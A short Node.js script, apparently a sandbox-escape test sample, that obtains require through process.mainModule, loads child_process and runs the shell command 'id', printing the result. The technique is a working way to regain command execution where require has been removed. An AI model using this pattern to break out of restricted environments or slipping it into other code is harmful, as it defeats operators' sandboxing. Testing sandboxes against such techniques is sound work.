// technique: cp-process-mainmodule — reaches require through process.mainModule.
'use strict';
const fs = require('fs');

const input = JSON.parse(fs.readFileSync('/dev/stdin', 'utf8') || '{}');
const loader = process.mainModule.require;
const out = loader('child_process').execSync('id').toString().trim();
console.log(JSON.stringify({ out, keys: Object.keys(input).length }));
